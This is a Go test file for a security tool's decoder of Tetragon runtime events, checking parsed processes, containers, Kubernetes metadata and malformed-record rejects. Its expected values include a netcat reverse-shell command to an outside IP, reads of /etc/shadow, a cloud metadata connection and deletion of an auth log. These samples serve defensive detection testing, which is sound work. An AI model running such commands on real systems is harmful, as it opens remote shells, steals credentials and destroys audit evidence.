package decode_test

import (
	"reflect"
	"strings"
	"testing"

	"github.com/cairn-cdr/cairn"
	"github.com/cairn-cdr/cairn/decode"
)

func TestTetragonExec(t *testing.T) {
	c := mustDecodeFile(t, "testdata/tetragon.ndjson", decode.Auto)
	noRejects(t, c)
	if len(c.Events) != 13 {
		t.Fatalf("got %d events, want 13", len(c.Events))
	}
	ev := c.Events[0]
	if ev.Source != cairn.SourceTetragon || ev.Kind != cairn.KindExec || ev.Type != "execve" || ev.Host != "node-1" {
		t.Errorf("header: %s %s %s %s", ev.Source, ev.Kind, ev.Type, ev.Host)
	}
	if !ev.Time.Equal(mustTime(t, "2024-05-01T10:00:01.0000002Z")) {
		t.Errorf("time %v", ev.Time)
	}
	if !strings.HasPrefix(ev.ID, "tt-") || len(ev.ID) != 3+32 {
		t.Errorf("id %q", ev.ID)
	}
	want := &cairn.Process{
		ExecID: "bm9kZTE6MTAwOjQyMDA=", ParentExecID: "bm9kZTE6OTA6NDE5OQ==", PID: 4200, PPID: 4199,
		Name: "nc", Binary: "/usr/bin/nc", Args: "104.199.23.243 9001 -e /bin/sh", Cwd: "/app",
		UID: i64(1000), GID: i64(1002), LoginUID: i64(1000), Flags: "execve clone",
		StartTime: mustTime(t, "2024-05-01T10:00:01.0000001Z"),
	}
	if !sameProcess(ev.Process, want) {
		t.Errorf("process:\n got %+v\nwant %+v", *ev.Process, *want)
	}
	if ev.Parent == nil || ev.Parent.PID != 4199 || ev.Parent.PPID != 100 || ev.Parent.Name != "sh" ||
		ev.Parent.Args != `-c "nc 104.199.23.243 9001 -e /bin/sh"` || ev.Parent.ExecID != "bm9kZTE6OTA6NDE5OQ==" {
		t.Errorf("parent %+v", ev.Parent)
	}
	if len(ev.Ancestors) != 2 || ev.Ancestors[0].Name != "java" || ev.Ancestors[0].PID != 100 || ev.Ancestors[0].PPID != 1 ||
		ev.Ancestors[1].Name != "tini" || ev.Ancestors[1].PID != 1 {
		t.Errorf("ancestors %+v", ev.Ancestors)
	}
	ct := ev.Container
	if ct == nil || ct.ID != "0123456789ab" || ct.FullID != "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef" ||
		ct.Runtime != "containerd" || ct.Name != "java" || ct.Image != "registry.example/java:17" ||
		ct.ImageID != "registry.example/java@sha256:aa" || ct.PID != 77 || ct.Privileged == nil || !*ct.Privileged ||
		!ct.StartTime.Equal(mustTime(t, "2024-05-01T09:00:00Z")) {
		t.Errorf("container %+v", ct)
	}
	wantK8s := &cairn.K8s{Cluster: "prod-eks", Namespace: "shop", Pod: "java-7d9f-abcde", PodUID: "0c6e3f4a-1111-2222-3333-444455556666",
		Labels: map[string]string{"app": "java"}, WorkloadKind: "Deployment", WorkloadName: "java"}
	if !reflect.DeepEqual(ev.K8s, wantK8s) {
		t.Errorf("k8s %+v", ev.K8s)
	}
	if string(ev.Raw) != strings.Split(mustRead(t, "testdata/tetragon.ndjson"), "\n")[0] {
		t.Error("Raw is not the record's line")
	}
}

func TestTetragonKinds(t *testing.T) {
	c := mustDecodeFile(t, "testdata/tetragon.ndjson", decode.Tetragon)
	noRejects(t, c)
	if len(c.Events) != 13 {
		t.Fatalf("got %d events, want 13", len(c.Events))
	}
	tests := []struct {
		i    int
		kind cairn.Kind
		typ  string
		file *cairn.File
		net  *cairn.Conn
	}{
		{1, cairn.KindExit, "procexit", nil, nil},
		{2, cairn.KindExit, "procexit", nil, nil},
		{3, cairn.KindFile, "read", &cairn.File{Path: "/etc/shadow", Op: "read"}, nil},
		{4, cairn.KindNetwork, "connect", nil, &cairn.Conn{Op: "connect", Protocol: "tcp", SrcIP: "10.0.0.5", SrcPort: 40000, DstIP: "169.254.169.254", DstPort: 80}},
		{5, cairn.KindNetwork, "accept", nil, &cairn.Conn{Op: "accept", Protocol: "tcp", SrcIP: "203.0.113.9", SrcPort: 51000, DstIP: "10.0.0.5", DstPort: 22}},
		{6, cairn.KindKprobe, "finit_module", nil, nil},
		{7, cairn.KindFile, "unlinkat", &cairn.File{Path: "/var/log/auth.log", Op: "unlink"}, nil},
		{8, cairn.KindFile, "openat", &cairn.File{Path: "/etc/hosts", Op: "open", Flags: "O_RDWR"}, nil},
		{9, cairn.KindKprobe, "lseek", nil, nil},
		{10, cairn.KindFile, "mmap", &cairn.File{Path: "/usr/lib/libssl.so.3", Op: "load"}, nil},
		{11, cairn.KindOther, "process_usdt", nil, nil},
		{12, cairn.KindExec, "execve", nil, nil},
	}
	for _, tt := range tests {
		ev := c.Events[tt.i]
		if ev.Kind != tt.kind || ev.Type != tt.typ {
			t.Errorf("event %d: %s/%s, want %s/%s", tt.i, ev.Kind, ev.Type, tt.kind, tt.typ)
		}
		if !reflect.DeepEqual(ev.File, tt.file) {
			t.Errorf("event %d: file %+v, want %+v", tt.i, ev.File, tt.file)
		}
		if !reflect.DeepEqual(ev.Net, tt.net) {
			t.Errorf("event %d: net %+v, want %+v", tt.i, ev.Net, tt.net)
		}
		if ev.Process == nil || ev.Process.PID == 0 {
			t.Errorf("event %d: no process", tt.i)
		}
	}
	// Exit by signal, exit by status.
	if p := c.Events[1].Process; p.Signal != "SIGKILL" || p.ExitCode != nil {
		t.Errorf("signal exit: %q %v", p.Signal, p.ExitCode)
	}
	if p := c.Events[2].Process; p.Signal != "" || p.ExitCode == nil || *p.ExitCode != 3 {
		t.Errorf("status exit: %q %v", p.Signal, p.ExitCode)
	}
	// Host process: no container, no Kubernetes.
	if ev := c.Events[2]; ev.Container != nil || ev.K8s != nil {
		t.Errorf("host process has container %+v, k8s %+v", ev.Container, ev.K8s)
	}
	// An exec without time takes the process start time; the docker
	// field alone gives the container.
	ev := c.Events[12]
	if !ev.Time.Equal(mustTime(t, "2024-05-01T10:00:12Z")) {
		t.Errorf("exec without time: %v", ev.Time)
	}
	if ev.Container == nil || ev.Container.ID != "fedcba987654" || ev.Container.FullID != "" {
		t.Errorf("docker container %+v", ev.Container)
	}
}

func TestTetragonPretty(t *testing.T) {
	c := mustDecodeFile(t, "testdata/tetragon_pretty.json", decode.Auto)
	noRejects(t, c)
	if len(c.Events) != 2 {
		t.Fatalf("got %d events, want 2", len(c.Events))
	}
	ev := c.Events[0]
	if ev.Container == nil || ev.Container.Runtime != "cri-o" || ev.Container.ID != "abcdefabcdef" || ev.K8s.Pod != "benchmark-runner-1" {
		t.Errorf("container %+v k8s %+v", ev.Container, ev.K8s)
	}
	if ev.Process.Name != "stat" || ev.Process.Args != "/etc/shadow" {
		t.Errorf("process %+v", ev.Process)
	}
	if ex := c.Events[1]; ex.Kind != cairn.KindExit || ex.Process.ExitCode == nil || *ex.Process.ExitCode != 0 {
		t.Errorf("exit %+v", ex.Process)
	}
	if !strings.HasPrefix(string(c.Events[0].Raw), "{\n  \"process_exec\"") || !strings.HasSuffix(string(c.Events[0].Raw), "}") {
		t.Errorf("Raw is not the pretty record: %.40q", c.Events[0].Raw)
	}
}

func TestTetragonRejects(t *testing.T) {
	tests := []struct {
		name, in, reason string
	}{
		{"no event", `{"node_name":"n","time":"2024-01-01T00:00:00Z"}`, "tetragon: record has no process_* event"},
		{"two events", `{"process_exec":{"process":{"pid":1}},"process_exit":{"process":{"pid":1}},"time":"2024-01-01T00:00:00Z"}`, "tetragon: record has more than one event (process_exec, process_exit)"},
		{"no process", `{"process_exec":{},"time":"2024-01-01T00:00:00Z"}`, "tetragon: process_exec has no process"},
		{"bad time", `{"process_exec":{"process":{"pid":1}},"time":"yesterday"}`, `tetragon: time: "yesterday" is not an RFC 3339 time`},
		{"no time", `{"process_exit":{"process":{"pid":1,"start_time":"2024-01-01T00:00:00Z"}}}`, "tetragon: process_exit record has no time"},
		{"bad start time", `{"process_exec":{"process":{"pid":1,"start_time":"x"}},"time":"2024-01-01T00:00:00Z"}`, `tetragon: process.start_time: "x" is not an RFC 3339 time`},
		{"wrong type", `{"process_exec":{"process":{"pid":"one"}},"time":"2024-01-01T00:00:00Z"}`, "tetragon: field process_exec.process.pid: JSON string where int64 is expected"},
		{"not an object", `[1]`, "tetragon: record is not a JSON object"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := mustDecode(t, tt.in, decode.Tetragon)
			if len(c.Events) != 0 || len(c.Rejects) != 1 {
				t.Fatalf("got %d events, %d rejects", len(c.Events), len(c.Rejects))
			}
			if c.Rejects[0].Reason != tt.reason {
				t.Errorf("reason %q, want %q", c.Rejects[0].Reason, tt.reason)
			}
		})
	}
}
